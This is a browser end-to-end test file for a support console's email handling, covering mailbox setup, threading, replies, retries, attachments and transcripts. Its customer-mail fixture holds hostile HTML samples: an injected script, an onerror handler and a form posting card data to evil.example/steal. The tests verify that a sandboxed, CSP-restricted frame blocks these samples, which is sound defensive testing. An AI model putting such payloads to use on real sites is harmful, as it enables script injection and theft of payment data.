// Email end to end in the console: the real hub, a real Dovecot as the support mailbox, an SMTP
// sink that keeps (or refuses) what the hub sends, and Debian's Chromium.
//
// Run: cd tests/browser && npm ci && node --test email.test.mjs   (Screenshots: artifacts/email-*.png)
//
// Scenario: the admin adds a mailbox whose IMAP server is unreachable and sees it failing with
// the error, deletes it, then adds the real one, which connects. A customer's mail (Chinese, HTML
// with a script, a form, an inline logo and a tracking pixel, a PDF, quoted history) reaches
// Dovecot; Bob is offered it as an email with its subject, accepts, reads it as text with the
// history collapsed, downloads the PDF, opens the formatted mail in its sandboxed frame and asks
// for the remote images. He replies to all with Ctrl+Enter while the network drops the hub's
// answer, sends again, and the customer gets one mail, threaded. A reply to an address the
// server refuses shows as not delivered with the server's reason. The customer's answer joins
// the thread and is announced. Bob attaches a file to a reply (one that fails to upload is
// explained and taken off) and the customer receives it; he forwards the customer's first mail to
// the warehouse with its PDF. An out-of-office reply is filed on the timeline, not offered. From the
// customer's page Bob writes them a new email with a file: it goes out, and the thread it opens is
// his in the workspace. A chat's customer (widget in Chinese) asks at the end for the transcript
// by email: it reaches the sink, and Bob's console shows where it went.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import {
  startHub, launchBrowser, chromiumSkip, missing, watch, shot, byTestId, signIn, call, login, IN_CI,
} from './harness.mjs';
import { startDovecot, startSmtpSink, freePort, haveDovecot, attachmentsOf, textOf } from './mail.mjs';

const ADMIN = 'admin@plugboard.example';
const BOB = 'bob@plugboard.example';
const MAILBOX = 'support@shop.example';
const CUSTOMER = 'li.wei@qq.example';
const COPIED = 'zhang@qq.example';
const REFUSED = 'nobody@qq.example';
const SUBJECT = '订单 1001 还没到';
const FIRST_ID = 'first.1001@qq.example';
const SANDBOX = 'allow-popups allow-popups-to-escape-sandbox';
// A 16×16 PNG: the inline logo the HTML shows by cid:.
const LOGO = 'iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAIAAACQkWg2AAAAF0lEQVR42mNkYPhfz0AEYBxVSF+FAP5FDvcfRYWgAAAAAElFTkSuQmCC';
const PDF = '%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n';

const skip = chromiumSkip() || missing('dovecot', haveDovecot(), 'install dovecot-imapd (.ci/install)');

let hub;
let dovecot;
let sink;
let browser;
let admin;
let bob;
let interactionId;
let ourMessageId;
// Set in before() when the hub answers /mailboxes with 404: its email side is not there yet.
let noEmail = false;
const pageErrors = [];

const b64 = (s) => Buffer.from(s, 'utf8').toString('base64').replace(/.{76}/g, '$&\n');

/** The customer's first mail, as Gmail sends one with an inline image and an attachment. */
function firstMail() {
  const text = '您好，\n\n我的订单 1001 还没有到，能帮我查一下吗？\n\n李伟\n\n'
    + '在 2026年11月27日 10:00，Shop Support <support@shop.example> 写道：\n> 感谢您的订购。\n> 订单号 1001\n';
  const markup = '<div><p style="color: rgb(180, 0, 0)">您好，</p><p>我的订单 <b>1001</b> 还没有到，能帮我查一下吗？</p>'
    + '<img src="cid:logo@qq.example" alt="logo" width="16" height="16">'
    + '<img src="https://tracker.example/open.gif?u=li" alt="tracker">'
    + '<script>parent.document.title = "owned"</script>'
    + '<img src="x" onerror="parent.document.title = \'owned\'">'
    + '<form action="https://evil.example/steal"><input name="card"></form>'
    + '<blockquote>感谢您的订购。</blockquote></div>';
  return [
    `From: =?UTF-8?B?${Buffer.from('李伟').toString('base64')}?= <${CUSTOMER}>`,
    `To: Shop Support <${MAILBOX}>`,
    `Cc: Zhang San <${COPIED}>`,
    `Subject: =?UTF-8?B?${Buffer.from(SUBJECT).toString('base64')}?=`,
    'Date: Sat, 28 Nov 2026 09:00:00 +0800',
    `Message-ID: <${FIRST_ID}>`,
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="mixed"',
    '',
    '--mixed',
    'Content-Type: multipart/related; boundary="rel"',
    '',
    '--rel',
    'Content-Type: multipart/alternative; boundary="alt"',
    '',
    '--alt',
    'Content-Type: text/plain; charset="UTF-8"',
    'Content-Transfer-Encoding: base64',
    '',
    b64(text),
    '--alt',
    'Content-Type: text/html; charset="UTF-8"',
    'Content-Transfer-Encoding: base64',
    '',
    b64(markup),
    '--alt--',
    '--rel',
    'Content-Type: image/png; name="logo.png"',
    'Content-ID: <logo@qq.example>',
    'Content-Disposition: inline; filename="logo.png"',
    'Content-Transfer-Encoding: base64',
    '',
    LOGO,
    '--rel--',
    '--mixed',
    'Content-Type: application/pdf; name="invoice.pdf"',
    'Content-Disposition: attachment; filename="invoice.pdf"',
    'Content-Transfer-Encoding: base64',
    '',
    b64(PDF),
    '--mixed--',
    '',
  ].join('\n');
}

function plainMail({ id, subject, body, headers = [] }) {
  return [
    `From: Li Wei <${CUSTOMER}>`, `To: ${MAILBOX}`, `Subject: ${subject}`, 'Date: Sat, 28 Nov 2026 11:00:00 +0800',
    `Message-ID: <${id}>`, ...headers, 'MIME-Version: 1.0', 'Content-Type: text/plain; charset="UTF-8"', '', body, '',
  ].join('\n');
}

/** Skips (or in CI fails) a test when the hub has no email side yet. */
function gate(t) {
  if (!noEmail) return false;
  if (IN_CI) throw new Error('the hub has no /api/v1/mailboxes (CI=true never skips)');
  t.skip('the hub has no /api/v1/mailboxes yet');
  return true;
}

async function eventually(what, f, ms = 15_000) {
  const deadline = Date.now() + ms;
  for (;;) {
    const v = await f();
    if (v) return v;
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 100));
  }
}

// What the mail's frame refuses or cannot load (a tracker, a style the page's policy refuses) is
// its CSP doing its job, not the console failing; and the send this test aborts on purpose fails.
const excused = (m) => m.location().url === 'about:srcdoc'
  // The tracker, once the agent chose to show images: asked for, and unreachable from here.
  || /tracker\.example/.test(m.location().url)
  || /Content Security Policy/.test(m.text()) && /tracker\.example|inline style|about:srcdoc/.test(m.text())
  || (/net::ERR_FAILED/.test(m.text()) && /\/emails$/.test(m.location().url))
  // The upload this test has the hub refuse on purpose.
  || (/\b413\b/.test(m.text()) && /\/api\/v1\/uploads\?filename=huge\.bin$/.test(m.location().url));

before(async () => {
  if (skip) return;
  dovecot = await startDovecot();
  sink = await startSmtpSink({ refuse: { [REFUSED]: '550 5.1.1 <nobody@qq.example>: Recipient address rejected' } });
  // Poll often: what IMAP IDLE does not wake is fetched within a second.
  hub = await startHub({ env: { PLUGBOARD_EMAIL__POLL_SECS: '1' } });
  const token = await login(hub.base, ADMIN);
  noEmail = (await call(hub.base, 'GET', '/mailboxes', token)).status === 404;
  browser = await launchBrowser();
  const ctx = () => browser.newContext({ viewport: { width: 1400, height: 900 }, locale: 'en-US', acceptDownloads: true });
  admin = await (await ctx()).newPage();
  bob = await (await ctx()).newPage();
  for (const [page, who] of [[admin, 'admin'], [bob, 'bob']]) {
    page.context().setDefaultTimeout(20_000);
    watch(page, who, pageErrors, excused);
  }
});

after(async () => {
  if (browser) await browser.close().catch(() => {});
  if (process.env.DEBUG_HUB_LOG && hub) (await import('node:fs')).writeFileSync(process.env.DEBUG_HUB_LOG, hub.log());
  if (hub) await hub.stop();
  if (dovecot) await dovecot.stop();
  if (sink) await sink.stop();
});

/** Fills the mailbox form's server part (`kind` is imap or smtp). */
async function server(page, kind, { host, port, security, user, password }) {
  await page.getByTestId(`mailbox-${kind}-host`).fill(host);
  await page.getByTestId(`mailbox-${kind}-security`).selectOption(security);
  await page.getByTestId(`mailbox-${kind}-port`).fill(String(port));
  await page.getByTestId(`mailbox-${kind}-user`).fill(user);
  await page.getByTestId(`mailbox-${kind}-password`).fill(password);
}

test('an admin adds a mailbox whose IMAP server is unreachable: it shows failing, with the error', { skip }, async (t) => {
  if (gate(t)) return;
  await signIn(admin, hub.base, ADMIN);
  await admin.getByTestId('nav-admin-mailboxes').click();
  await admin.getByTestId('admin-mailboxes').waitFor();
  const closed = await freePort();
  await admin.getByTestId('mailbox-address').fill('broken@shop.example');
  await admin.getByTestId('mailbox-display-name').fill('Broken');
  await admin.getByTestId('mailbox-queue').selectOption({ label: 'Support' });
  await server(admin, 'imap', { host: '127.0.0.1', port: closed, security: 'plain', user: 'x', password: 'secret-imap' });
  await server(admin, 'smtp', { host: '127.0.0.1', port: sink.port, security: 'plain', user: '', password: '' });
  await admin.getByTestId('mailbox-save').click();
  const row = admin.getByTestId('mailbox-row').filter({ hasText: 'broken@shop.example' });
  await row.waitFor();
  // The page refreshes the status by itself: no reload.
  await row.locator('[data-testid="mailbox-state"][data-state="failing"]').waitFor();
  assert.ok((await row.getByTestId('mailbox-error').textContent()).trim().length > 0, 'the error is shown');
  assert.equal(await row.getByTestId('mailbox-state').textContent(), 'Failing');
  await shot(admin, 'email-admin-mailbox-failing');

  // Passwords are write-only: never in the API's answer, never in the form.
  const token = await admin.evaluate(() => sessionStorage.getItem('plugboard.token'));
  const listed = (await call(hub.base, 'GET', '/mailboxes', token)).body;
  assert.ok(!JSON.stringify(listed).includes('secret-imap'), JSON.stringify(listed));
  await row.getByTestId('mailbox-edit').click();
  assert.equal(await admin.getByTestId('mailbox-address').inputValue(), 'broken@shop.example');
  assert.equal(await admin.getByTestId('mailbox-imap-port').inputValue(), String(closed));
  assert.equal(await admin.getByTestId('mailbox-imap-password').inputValue(), '');
  assert.equal(await admin.getByTestId('mailbox-imap-password').getAttribute('type'), 'password');
  await admin.getByTestId('mailbox-cancel').click();

  // Delete asks first.
  await row.getByTestId('mailbox-delete').click();
  await row.getByTestId('mailbox-delete-confirm').click();
  await row.waitFor({ state: 'detached' });
});

test('the admin adds the support mailbox on Dovecot; it connects', { skip }, async (t) => {
  if (gate(t)) return;
  await admin.getByTestId('mailbox-address').fill(MAILBOX);
  await admin.getByTestId('mailbox-display-name').fill('Shop Support');
  await admin.getByTestId('mailbox-queue').selectOption({ label: 'Support' });
  await server(admin, 'imap', { host: dovecot.host, port: dovecot.port, security: 'plain', user: dovecot.user, password: dovecot.password });
  await server(admin, 'smtp', { host: '127.0.0.1', port: sink.port, security: 'plain', user: '', password: '' });
  await admin.getByTestId('mailbox-signature').fill('Shop Support team');
  await admin.getByTestId('mailbox-save').click();
  const row = admin.getByTestId('mailbox-row').filter({ hasText: MAILBOX });
  await row.locator('[data-testid="mailbox-state"][data-state="connected"]').waitFor();
  await row.getByTestId('mailbox-failures-toggle').click();
  await admin.getByTestId('mailbox-failures-none').waitFor();
  await shot(admin, 'email-admin-mailboxes');
});

test('a customer\'s mail is offered to Bob as an email, with its subject', { skip }, async (t) => {
  if (gate(t)) return;
  await signIn(bob, hub.base, BOB);
  await bob.getByTestId('agent-name').filter({ hasText: 'Bob Martin' }).waitFor();
  await bob.getByTestId('state-available').click();
  await byTestId(bob, 'state-current', 'data-state', 'available').waitFor();
  await dovecot.append(firstMail());
  const offer = byTestId(bob, 'offer-card', 'data-channel', 'email');
  await offer.waitFor();
  interactionId = await offer.getAttribute('data-interaction-id');
  assert.equal(await offer.getByTestId('offer-subject').textContent(), SUBJECT);
  const preview = await offer.getByTestId('offer-preview').textContent();
  assert.match(preview, /我的订单 1001 还没有到/);
  assert.doesNotMatch(preview, /感谢您的订购/, 'the quoted history is not in the preview');
  assert.match(await offer.textContent(), /Incoming Email/);
  await shot(bob, 'email-offer');
  await offer.getByTestId('offer-accept').click();
  await byTestId(bob, 'email-pane', 'data-interaction-id', interactionId).waitFor();
  assert.match(await byTestId(bob, 'held-item', 'data-interaction-id', interactionId).getByTestId('held-subject').textContent(), new RegExp(SUBJECT));
});

test('the thread shows the mail: headers, the text without its quoted history, the attachments', { skip }, async (t) => {
  if (gate(t)) return;
  const card = byTestId(bob, 'email-card', 'data-sender', 'customer').first();
  assert.equal(await card.getByTestId('email-subject').textContent(), SUBJECT);
  assert.equal(await card.getByTestId('email-from').textContent(), `李伟 <${CUSTOMER}>`);
  assert.match(await card.getByTestId('email-to').textContent(), new RegExp(MAILBOX));
  assert.match(await card.getByTestId('email-cc').textContent(), new RegExp(COPIED));
  assert.match(await card.getByTestId('email-text').first().textContent(), /我的订单 1001 还没有到/);
  assert.equal(await card.getByTestId('email-quote').count(), 0, 'history collapsed');
  await card.getByTestId('email-toggle-quoted').click();
  assert.match(await card.getByTestId('email-quote').textContent(), /写道：\n> 感谢您的订购。/);
  assert.equal(await card.getByTestId('email-toggle-quoted').getAttribute('aria-expanded'), 'true');
  const names = await card.getByTestId('email-attachment-name').allTextContents();
  assert.ok(names.includes('invoice.pdf'), names.join(', '));
  const [download] = await Promise.all([
    bob.waitForEvent('download'),
    card.getByTestId('email-attachment').filter({ hasText: 'invoice.pdf' }).getByTestId('email-attachment-download').click(),
  ]);
  assert.equal(download.suggestedFilename(), 'invoice.pdf');
  assert.equal(await readFile(await download.path(), 'utf8'), PDF);
  // Nothing of the mail's HTML is in the console's own page.
  assert.equal(await bob.locator('form[action*="evil"], .email-card script, .email-card img').count(), 0);
  await shot(bob, 'email-thread');
});

test('the formatted mail is in a sandboxed frame: no script runs, remote images wait for the click', { skip }, async (t) => {
  if (gate(t)) return;
  const card = byTestId(bob, 'email-card', 'data-sender', 'customer').first();
  await card.getByTestId('email-toggle-formatted').click();
  const frameEl = card.getByTestId('email-frame');
  await frameEl.waitFor();
  assert.equal(await frameEl.getAttribute('sandbox'), SANDBOX, 'sandboxed, without allow-scripts or allow-same-origin');
  const srcdoc = await frameEl.evaluate((f) => f.srcdoc);
  assert.ok(srcdoc.startsWith(`<!doctype html><html><head><meta http-equiv="Content-Security-Policy" content="default-src 'none'; img-src data: blob:; style-src 'unsafe-inline'">`), srcdoc.slice(0, 200));
  // The frame's document is replaced when the inline images arrive: look it up each time.
  const mailFrame = async () => (await frameEl.elementHandle()).contentFrame();
  // The inline logo is the mail's own attachment, fetched with Bob's token.
  await eventually('the inline logo', async () => (await mailFrame()).evaluate(() => {
    const logo = document.querySelector('img[alt="logo"]');
    return Boolean(logo && logo.complete && logo.naturalWidth === 16);
  }).catch(() => false));
  const frame = await mailFrame();
  assert.match(await frame.evaluate(() => document.body.textContent), /我的订单 1001 还没有到/);
  const before = await frame.evaluate(() => {
    const tracker = document.querySelector('img[alt="tracker"]');
    return { src: tracker.getAttribute('src'), held: tracker.getAttribute('data-remote-src'), scripts: document.scripts.length, forms: document.forms.length };
  });
  assert.deepEqual(before, { src: null, held: 'https://tracker.example/open.gif?u=li', scripts: 0, forms: 0 });
  assert.notEqual(await bob.title(), 'owned');
  await shot(bob, 'email-formatted');

  await card.getByTestId('email-show-images').click();
  await byTestId(bob, 'email-frame', 'data-remote-images', 'shown').waitFor();
  const tracker = await eventually('the remote image asked for', async () => (await mailFrame()).evaluate(() => {
    const img = document.querySelector('img[alt="tracker"]');
    return img && img.getAttribute('src');
  }).catch(() => null));
  assert.equal(tracker, 'https://tracker.example/open.gif?u=li');
  assert.match(await card.getByTestId('email-frame').evaluate((f) => f.srcdoc), /img-src data: blob: https:;/);
  assert.notEqual(await bob.title(), 'owned');
  await card.getByTestId('email-toggle-formatted').click();
});

test('Bob replies to all with Ctrl+Enter; the lost answer is retried with the same client_id: one mail', { skip }, async (t) => {
  if (gate(t)) return;
  await bob.getByTestId('email-reply-all').click();
  assert.equal(await bob.getByTestId('email-to-input').inputValue(), CUSTOMER);
  const cc = await bob.getByTestId('email-cc-input').inputValue();
  assert.ok(cc.split(', ').includes(COPIED), cc);
  // Every agent knows the mailboxes' addresses: reply-all leaves the mailbox itself out.
  assert.ok(!cc.split(', ').includes(MAILBOX), cc);
  assert.equal(await bob.getByTestId('email-subject-input').inputValue(), `Re: ${SUBJECT}`);
  await bob.getByTestId('email-body-input').fill('您好，您的订单今天发货。');

  // The hub stores the reply but its answer never reaches the browser.
  const posted = [];
  let dropped = false;
  await bob.route('**/api/v1/interactions/*/emails', async (route) => {
    posted.push(route.request().postDataJSON());
    if (!dropped) {
      dropped = true;
      await route.fetch();
      await route.abort('failed');
    } else {
      await route.continue();
    }
  });
  await bob.getByTestId('email-body-input').press('Control+Enter');
  await bob.getByTestId('email-send-error').waitFor();
  assert.equal(await bob.getByTestId('email-body-input').inputValue(), '您好，您的订单今天发货。', 'the draft is kept');
  assert.equal(await bob.getByTestId('email-send').textContent(), 'Send again');
  await shot(bob, 'email-send-failed');
  await bob.getByTestId('email-send').click();
  // The hub's answer to the retry clears the composer: the reply is stored.
  await eventually('the composer to start afresh', async () => (await bob.getByTestId('email-body-input').inputValue()) === '');
  await bob.unroute('**/api/v1/interactions/*/emails');
  assert.equal(posted.length, 2);
  assert.equal(posted[1].client_id, posted[0].client_id, 'the retry is the same reply');
  assert.deepEqual(posted[0].cc, [COPIED]);
  const reply = bob.locator('[data-testid="email-card"][data-sender="agent"]').filter({ hasText: '您的订单今天发货' });
  await reply.locator('[data-testid="email-delivery"][data-delivery="sent"]').waitFor();
  assert.equal(await reply.count(), 1, 'shown once');
  assert.equal(await bob.getByTestId('email-earlier-sent').count(), 0, 'the retry found its own text, not another');

  const out = await eventually('the reply at the sink', () => sink.messages[0]);
  assert.equal(sink.messages.length, 1, 'one mail, not two');
  assert.match(out.raw, new RegExp(`^In-Reply-To: <${FIRST_ID}>`, 'mi'));
  assert.ok(out.to.includes(CUSTOMER) && out.to.includes(COPIED), out.to.join(', '));
  ourMessageId = out.raw.match(/^Message-ID: <([^>]+)>/mi)[1];
  await shot(bob, 'email-reply-sent');
});

test('a reply the server refuses shows as not delivered, with the server\'s reason', { skip }, async (t) => {
  if (gate(t)) return;
  await bob.getByTestId('email-reply').click();
  await bob.getByTestId('email-to-input').fill(REFUSED);
  await bob.getByTestId('email-body-input').fill('Could you check the address?');
  await bob.getByTestId('email-send').click();
  const reply = bob.locator('[data-testid="email-card"][data-sender="agent"]').filter({ hasText: 'Could you check the address?' });
  await reply.locator('[data-testid="email-delivery"][data-delivery="failed"]').waitFor();
  assert.match(await reply.getByTestId('email-delivery-error').textContent(), /550/);
  assert.match(await reply.getByTestId('email-delivery').textContent(), /Not delivered/);
  await byTestId(bob, 'held-item', 'data-interaction-id', interactionId).getByTestId('held-undelivered').waitFor();
  assert.match(await bob.getByTestId('email-announce').textContent(), /not delivered: .*550/);
  await shot(bob, 'email-reply-failed');
});

test('the customer\'s answer joins the thread, and a screen reader hears of it', { skip }, async (t) => {
  if (gate(t)) return;
  await dovecot.append(plainMail({
    id: 'answer.1001@qq.example', subject: `Re: ${SUBJECT}`, body: '谢谢，收到了！\n\n> 您好，您的订单今天发货。',
    headers: [`In-Reply-To: <${ourMessageId}>`, `References: <${FIRST_ID}> <${ourMessageId}>`],
  }));
  const cards = byTestId(bob, 'email-card', 'data-sender', 'customer');
  await cards.filter({ hasText: '谢谢，收到了！' }).waitFor();
  assert.equal(await cards.count(), 2);
  await bob.getByTestId('email-announce').filter({ hasText: /New email from Li Wei/ }).waitFor();
  assert.equal(await bob.getByTestId('offer-card').count(), 0, 'the answer went to Bob, not offered again');
});

const NOTES = 'Tracking: SF1234567890\n发货单号见附件。\n';

test('Bob attaches a file to a reply: its size and upload show, a failed one is explained, the customer gets it', { skip }, async (t) => {
  if (gate(t)) return;
  await bob.getByTestId('email-reply').click();
  await bob.getByTestId('email-body-input').fill('The tracking number is attached.');
  // The hub refuses one file (as it would one over the mail limit); the other uploads.
  const huge = (url) => url.pathname.endsWith('/api/v1/uploads') && url.searchParams.get('filename') === 'huge.bin';
  await bob.route(huge, (route) => route.fulfill({
    status: 413, contentType: 'application/json', body: JSON.stringify({ code: 'too_large', message: 'a file may be at most 26214400 bytes' }),
  }));
  await bob.getByTestId('attach-input').setInputFiles([
    { name: 'tracking.txt', mimeType: 'text/plain', buffer: Buffer.from(NOTES) },
    { name: 'huge.bin', mimeType: 'application/octet-stream', buffer: Buffer.alloc(2048, 1) },
  ]);
  const done = bob.locator('[data-testid="attach-item"][data-name="tracking.txt"][data-status="done"]');
  await done.waitFor();
  assert.match(await done.textContent(), /\d+ B/);
  const failed = bob.locator('[data-testid="attach-item"][data-name="huge.bin"][data-status="failed"]');
  await failed.waitFor();
  assert.match(await failed.getByTestId('attach-error').textContent(), /larger than a mail may carry/);
  assert.equal(await bob.getByTestId('email-send').isDisabled(), true, 'not sent with a file missing');
  await shot(bob, 'email-attach-failed');
  await failed.getByTestId('attach-remove').click();
  await bob.unroute(huge);
  await bob.getByTestId('email-send').click();
  const reply = bob.locator('[data-testid="email-card"][data-sender="agent"]').filter({ hasText: 'The tracking number is attached.' });
  await reply.locator('[data-testid="email-delivery"][data-delivery="sent"]').waitFor();
  assert.deepEqual(await reply.getByTestId('email-attachment-name').allTextContents(), ['tracking.txt']);
  const out = await eventually('the reply with its file at the sink', () => sink.messages.find((m) => m.raw.includes('The tracking number is attached.')));
  const files = attachmentsOf(out.raw);
  assert.deepEqual(files.map((f) => [f.filename, f.type]), [['tracking.txt', 'text/plain']]);
  assert.equal(files[0].data.toString('utf8'), NOTES, 'byte for byte');
  await shot(bob, 'email-attach-sent');
});

test('Bob forwards the customer\'s first mail to the warehouse; its PDF goes along', { skip }, async (t) => {
  if (gate(t)) return;
  const first = byTestId(bob, 'email-card', 'data-sender', 'customer').first();
  await first.getByTestId('email-forward').click();
  const composer = byTestId(bob, 'email-composer', 'data-mode', 'forward');
  await composer.waitFor();
  assert.match(await bob.getByTestId('email-forwarding').textContent(), /2 attached files go along/);
  assert.equal(await bob.getByTestId('email-to-input').inputValue(), '', 'a forward names its own recipients');
  assert.equal(await bob.getByTestId('email-subject-input').inputValue(), `Fwd: ${SUBJECT}`);
  assert.equal(await bob.getByTestId('email-send').isDisabled(), true);
  await bob.getByTestId('email-to-input').fill('warehouse@shop.example');
  await bob.getByTestId('email-body-input').fill('仓库：请查一下这个订单。');
  await shot(bob, 'email-forward');
  await bob.getByTestId('email-send').click();
  const sent = bob.locator('[data-testid="email-card"][data-sender="agent"]').filter({ has: bob.getByTestId('email-forwarded') });
  await sent.locator('[data-testid="email-delivery"][data-delivery="sent"]').waitFor();
  const out = await eventually('the forward at the sink', () => sink.messages.find((m) => m.to.includes('warehouse@shop.example')));
  assert.doesNotMatch(out.raw, /^In-Reply-To:/mi, 'a thread of its own for the warehouse');
  const text = textOf(out.raw);
  assert.ok(text.startsWith('仓库：请查一下这个订单。\n\n---------- Forwarded message ----------\nFrom: 李伟 <li.wei@qq.example>\n'), text);
  assert.match(text, /\nSubject: 订单 1001 还没到\n/);
  assert.match(text, /我的订单 1001 还没有到/);
  const pdf = attachmentsOf(out.raw).find((f) => f.filename === 'invoice.pdf');
  assert.ok(pdf, out.raw.slice(0, 2000));
  assert.equal(pdf.data.toString('latin1'), PDF);
  // Back to replying afterwards: the composer is a reply again.
  await byTestId(bob, 'email-composer', 'data-mode', 'reply').waitFor();
});

test('the thread and the reply form in Chinese', { skip }, async (t) => {
  if (gate(t)) return;
  try {
    await bob.getByTestId('locale-select').selectOption('zh-CN');
    await bob.getByTestId('email-reply-all').filter({ hasText: '全部回复' }).waitFor();
    assert.equal(await byTestId(bob, 'email-card', 'data-sender', 'customer').first().getByTestId('email-toggle-quoted').textContent(), '隐藏引用内容');
    await bob.locator('[data-testid="email-delivery"][data-delivery="failed"]').filter({ hasText: '未送达' }).waitFor();
    await shot(bob, 'email-thread-zh-CN');
    await admin.getByTestId('locale-select').selectOption('zh-CN');
    await admin.locator('[data-testid="mailbox-state"][data-state="connected"]').filter({ hasText: '已连接' }).waitFor();
    await shot(admin, 'email-admin-mailboxes-zh-CN');
  } finally {
    await admin.getByTestId('locale-select').selectOption('en');
    await bob.getByTestId('locale-select').selectOption('en');
    await bob.getByTestId('nav-workspace').filter({ hasText: 'Workspace' }).waitFor();
  }
});

test('an out-of-office reply is filed on the customer\'s timeline, never offered', { skip }, async (t) => {
  if (gate(t)) return;
  await dovecot.append(plainMail({
    id: 'ooo.1@qq.example', subject: 'Automatic reply: 休假中', body: '我正在休假，12月1日回来。',
    headers: ['Auto-Submitted: auto-replied'],
  }));
  // Bob closes the thread and wraps it up.
  await bob.getByTestId('end-chat').click();
  await bob.getByTestId('wrapup-form').waitFor();
  await bob.getByTestId('wrapup-disposition').selectOption('resolved');
  await bob.getByTestId('wrapup-submit').click();
  await bob.getByTestId('email-pane').waitFor({ state: 'detached' });

  await bob.getByTestId('nav-customers').click();
  await bob.getByTestId('customer-search-input').fill(CUSTOMER);
  await bob.getByTestId('customer-search-submit').click();
  await bob.getByTestId('customer-result').first().click();
  const filed = bob.locator('[data-testid="timeline-event"][data-type="interaction.filed"]');
  await eventually('the filed out-of-office on the timeline', async () => {
    if (await filed.count()) return true;
    await bob.reload();
    await bob.getByTestId('customer-profile').waitFor();
    return false;
  }, 20_000);
  assert.match(await filed.first().textContent(), /Filed, not routed: an automatic reply \(auto-submitted: auto-replied\)/);
  const thread = byTestId(bob, 'timeline-entry', 'data-interaction-id', interactionId);
  assert.equal(await thread.getByTestId('timeline-subject').textContent(), SUBJECT);
  await thread.getByTestId('timeline-toggle').click();
  assert.ok(await thread.getByTestId('email-card').count() >= 4, 'the mails of the thread, as in the workspace');
  assert.equal(await bob.getByTestId('offer-card').count(), 0);
  await shot(bob, 'email-timeline');
});

test('from the customer\'s page Bob writes a new email with a file; the thread it opens is his', { skip }, async (t) => {
  if (gate(t)) return;
  // Still on Li Wei's page from the test before.
  await bob.getByTestId('profile-new-email').click();
  const form = bob.getByTestId('new-email-form');
  await form.waitFor();
  assert.equal(await bob.getByTestId('new-email-to').inputValue(), CUSTOMER);
  assert.match(await bob.getByTestId('new-email-mailbox').textContent(), new RegExp(MAILBOX));
  await bob.getByTestId('new-email-subject').fill('您的退款已处理');
  await bob.getByTestId('new-email-body').fill('您好，退款已经处理，请查收附件。');
  await form.getByTestId('attach-input').setInputFiles({ name: 'refund.txt', mimeType: 'text/plain', buffer: Buffer.from('Refund: 199.00 CNY\n') });
  await form.locator('[data-testid="attach-item"][data-status="done"]').waitFor();
  await shot(bob, 'email-new');
  await bob.getByTestId('new-email-send').click();
  await bob.getByTestId('new-email-sent').waitFor();
  const out = await eventually('the new mail at the sink', () => sink.messages.find((m) => m.raw.includes('Refund: 199.00') || /refund\.txt/.test(m.raw)));
  assert.deepEqual(out.to, [CUSTOMER]);
  assert.deepEqual(attachmentsOf(out.raw).map((f) => [f.filename, f.data.toString()]), [['refund.txt', 'Refund: 199.00 CNY\n']]);
  // The new thread is Bob's in the workspace, with its mail.
  await bob.getByTestId('new-email-workspace').click();
  const pane = bob.getByTestId('email-pane');
  await pane.getByTestId('email-thread-subject').filter({ hasText: '您的退款已处理' }).waitFor();
  await pane.locator('[data-testid="email-card"][data-sender="agent"]').filter({ hasText: '退款已经处理' }).waitFor();
  assert.equal(await bob.getByTestId('offer-card').count(), 0, 'never offered: his from the start');
  assert.equal(await pane.getByTestId('email-to-input').inputValue(), CUSTOMER, 'a follow-up goes where the first mail went');
  await shot(bob, 'email-new-thread');
});

test('a chat\'s customer asks at the end for the transcript by email; Bob sees where it went', { skip }, async (t) => {
  if (gate(t)) return;
  const vctx = await browser.newContext({ viewport: { width: 1000, height: 760 }, locale: 'zh-CN' });
  vctx.setDefaultTimeout(20_000);
  const visitor = await vctx.newPage();
  watch(visitor, 'widget', pageErrors);
  await visitor.goto(`${hub.base}/demo`);
  await visitor.getByTestId('widget-launcher').click();
  await visitor.getByTestId('prechat-name').fill('王芳');
  await visitor.getByTestId('prechat-email').fill('wang.fang@qq.example');
  await visitor.getByTestId('prechat-message').fill('发票还没收到');
  await visitor.getByTestId('prechat-submit').click();
  const offer = bob.getByTestId('offer-card');
  await offer.waitFor();
  const chat = await offer.getAttribute('data-interaction-id');
  await offer.getByTestId('offer-accept').click();
  // Bob holds the email thread of the test before too: he opens the chat.
  await byTestId(bob, 'held-item', 'data-interaction-id', chat).click();
  await bob.getByTestId('composer-input').fill('发票今天补发。');
  await bob.getByTestId('composer-input').press('Enter');
  await byTestId(visitor, 'widget-message', 'data-sender', 'agent').filter({ hasText: '发票今天补发' }).waitFor();
  assert.equal(await visitor.getByTestId('widget-transcript').count(), 0, 'offered only once the chat has ended');
  await bob.getByTestId('end-chat').click();
  await bob.getByTestId('wrapup-form').waitFor();
  // The widget offers it, to the address given before the chat.
  await visitor.getByTestId('widget-transcript').waitFor();
  assert.equal(await visitor.getByTestId('widget-transcript-email').inputValue(), 'wang.fang@qq.example');
  await shot(visitor, 'widget-transcript');
  await visitor.getByTestId('widget-transcript-send').click();
  assert.match(await visitor.getByTestId('widget-transcript-sent').textContent(), /wang\.fang@qq\.example/);
  const out = await eventually('the transcript at the sink', () => sink.messages.find((m) => m.to.includes('wang.fang@qq.example')));
  const text = textOf(out.raw);
  assert.match(text, /与王芳的会话/);
  assert.match(text, /王芳: 发票还没收到/);
  assert.match(text, /: 发票今天补发。/);
  // On the conversation, in Bob's language, where it went and that it went.
  const record = bob.locator('[data-testid="message"][data-sender="system"]');
  await record.filter({ hasText: 'emailed to wang.fang@qq.example' }).waitFor();
  await record.locator('[data-testid="message-delivery"][data-delivery="sent"]').waitFor();
  await shot(bob, 'chat-transcript-emailed');
  await bob.getByTestId('wrapup-disposition').selectOption('resolved');
  await bob.getByTestId('wrapup-submit').click();
  await vctx.close();
});

test('no page logged an error (CSP violations outside the mail frame included)', { skip }, (t) => {
  if (gate(t)) return;
  assert.deepEqual(pageErrors, []);
});
